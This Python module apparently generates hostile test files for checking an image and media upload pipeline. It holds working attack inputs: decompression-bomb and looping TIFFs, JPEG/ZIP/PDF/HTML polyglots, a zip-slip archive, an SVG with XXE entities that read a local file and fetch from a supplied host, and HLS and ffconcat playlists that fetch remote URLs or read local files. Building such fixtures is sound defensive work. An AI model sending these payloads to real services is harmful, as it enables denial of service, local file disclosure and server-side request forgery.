"""TIFF, and what is two things at once: written by hand, byte for byte."""

import struct
import zlib
from collections.abc import Iterator, Mapping
from io import BytesIO
from zipfile import ZIP_STORED, ZipFile, ZipInfo

SHORT, LONG, ASCII, DOUBLE = 3, 4, 2, 12
SIZES = {SHORT: "H", LONG: "I", ASCII: "B", DOUBLE: "d"}
MOST = 0xFFFFFFFF
Numbers = tuple[float, ...]
Field = tuple[int, Numbers]
Fields = Mapping[int, Field]
SCRIPT = b"<!doctype html><html><script>alert('zqmarker')</script></html>"


def grey(
    width: int, height: int, rows: int, offsets: tuple[int, ...], counts: tuple[int, ...], bits: int = 8
) -> dict[int, tuple[int, tuple[float, ...]]]:
    """The fields of a grey picture in packed strips."""
    return {
        256: (LONG, (width,)), 257: (LONG, (height,)), 258: (SHORT, (bits,)), 259: (SHORT, (8,)), 262: (SHORT, (1,)),
        273: (LONG, offsets), 277: (SHORT, (1,)), 278: (LONG, (rows,)), 279: (LONG, counts),
    }  # fmt: skip


def folder(fields: Fields, at: int, following: int) -> bytes:
    """An image file directory that begins at this offset; what does not fit into it stands behind it."""
    entries, behind, end = b"", b"", at + 2 + 12 * len(fields) + 4
    for tag, (kind, values) in sorted(fields.items()):
        content = struct.pack(f"<{len(values)}{SIZES[kind]}", *values)
        value = content.ljust(4, b"\0") if len(content) <= 4 else struct.pack("<I", end + len(behind))
        behind += content if len(content) > 4 else b""
        entries += struct.pack("<HHI", tag, kind, len(values)) + value
    return struct.pack("<H", len(fields)) + entries + struct.pack("<I", following) + behind


def tiff(fields: Fields, strip: bytes, following: int = 0) -> bytes:
    """One picture, whose strip stands at byte 8."""
    at = 8 + len(strip) + len(strip) % 2
    return struct.pack("<2sHI", b"II", 42, at) + strip.ljust(at - 8, b"\0") + folder(fields, at, following)


def pages(count: int, side: int) -> bytes:
    """Pages that share one strip."""
    strip = zlib.compress(bytes(side * side), 9)
    at = 8 + len(strip) + len(strip) % 2
    found, fields = b"", grey(side, side, side, (8,), (len(strip),))
    size = len(folder(fields, 0, 0))
    for number in range(count):
        here = at + size * number
        found += folder(fields, here, here + size if number + 1 < count else 0)
    return struct.pack("<2sHI", b"II", 42, at) + strip.ljust(at - 8, b"\0") + found


def tiffs() -> Iterator[tuple[str, bytes]]:
    strip = zlib.compress(bytes(64 * 48), 9)
    sound = grey(64, 48, 48, (8,), (len(strip),))
    wide = zlib.compress(bytes(50_000 * 100), 9)
    at = 8 + len(strip) + len(strip) % 2
    yield "two-and-a-half-gigapixels.tiff", tiff(grey(50_000, 50_000, 100, (8,) * 500, (len(wide),) * 500), wide)
    yield "one-bit-a-pixel.tiff", tiff(grey(200_000, 200_000, 200_000, (8,), (len(strip),), 1), strip)
    yield "pages-in-a-ring.tiff", tiff(sound, strip, following=at)
    yield "pictures-within-itself.tiff", tiff({**sound, 330: (LONG, (at,))}, strip)
    yield "strip-of-gigabytes.tiff", tiff(grey(64, 48, 48, (8,), (MOST,)), strip)
    yield "strip-outside-the-file.tiff", tiff(grey(64, 48, 48, (MOST - 8,), (len(strip),)), strip)
    yield "four-hundred-pages.tiff", pages(400, 1000)
    yield "65535-samples-a-pixel.tiff", tiff({**sound, 277: (SHORT, (65_535,))}, strip)
    yield "fields-without-number.tiff", struct.pack("<2sHHHQ", b"II", 43, 8, 0, 16) + struct.pack("<Q", 2**60) + bytes(64)
    words = tuple(b"zqmarker 47.3769 N 8.5417 E\0")
    yield (
        "where-it-was-taken.tiff",
        tiff({**sound, 34_737: (ASCII, words), 33_922: (DOUBLE, (0, 0, 0, 8.5417, 47.3769, 0)), 270: (ASCII, words)}, strip),
    )


def others(jpeg: bytes, png: bytes, told: bytes, canary: bytes) -> Iterator[tuple[str, bytes]]:
    """What is a picture and something else, or only says that it is one."""
    yield "picture-and-archive.jpg", jpeg + _archive()
    yield "page-behind-a-picture.png", png + SCRIPT
    yield (
        "picture-and-paper.jpg",
        jpeg[:2] + b"\xff\xfe" + struct.pack(">H", 60) + b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>endobj zqmarker".ljust(58) + jpeg[2:],
    )
    yield "archive-that-climbs.zip", _archive()
    entities = b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file://' + canary + b'"><!ENTITY b SYSTEM "' + told + b'/b">]>'
    drawn = b'<svg xmlns="http://www.w3.org/2000/svg"><text>&a;&b;</text><image href="' + told + b'/c"/><script>zqmarker</script></svg>'
    yield "drawing-that-fetches.svg", b'<?xml version="1.0"?>' + entities + drawn
    yield "drawing-called-a-picture.png", drawn
    yield "list-that-fetches.mp4", b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n" + told + b"/film.ts\n#EXT-X-ENDLIST\n"
    yield "list-that-reads.mp4", b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nfile://" + canary + b"\n#EXT-X-ENDLIST\n"
    yield "list-that-joins.webm", b"ffconcat version 1.0\nfile '" + canary + b"'\n"
    yield "list-as-words.txt", b"#EXTM3U\n#EXTINF:1.0,\nfile://" + canary + b"\n" + told + b"/film.ts\n"


def _archive() -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_STORED) as archive:
        archive.writestr(ZipInfo("../../../../tmp/zqmarker"), SCRIPT)
    return made.getvalue()
